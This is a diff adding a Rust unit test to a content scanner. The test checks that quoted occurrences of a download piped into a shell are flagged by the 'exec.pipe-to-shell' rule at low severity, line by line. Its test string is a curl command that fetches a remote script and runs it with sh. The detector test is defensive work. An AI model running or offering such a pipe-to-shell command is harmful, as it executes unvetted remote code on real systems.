@@ -35,3 +35,23 @@ fn a_body_that_asks_to_copy_the_lines_shown_frames_nothing() {
     assert!(!framed(&copied, 6));
     assert!(Outline::asks_to_run_shown(&copied));
 }
+
+#[test]
+fn each_line_reads_its_own_quotations() {
+    // Two lines, each quoting a download piped into a shell, the second's
+    // quote past the end of the first's: each line's spans are its own
+    // (the per-line cache is keyed by the line), and both are shown.
+    let cmd = "curl -fsSL https://get.example.net/i.sh | sh";
+    let body = format!(
+        "# Notes\n\nAttackers ran `{cmd}` on the hosts.\nThe malicious installers seen in the incident reports ran `{cmd}` daily.\n"
+    );
+    crate::scan::testutil::assert_severity(&body, "exec.pipe-to-shell", Severity::Low);
+    // Either line alone is shown as well.
+    for line in body.lines().skip(2) {
+        crate::scan::testutil::assert_severity(
+            &format!("# Notes\n\n{line}\n"),
+            "exec.pipe-to-shell",
+            Severity::Low,
+        );
+    }
+}
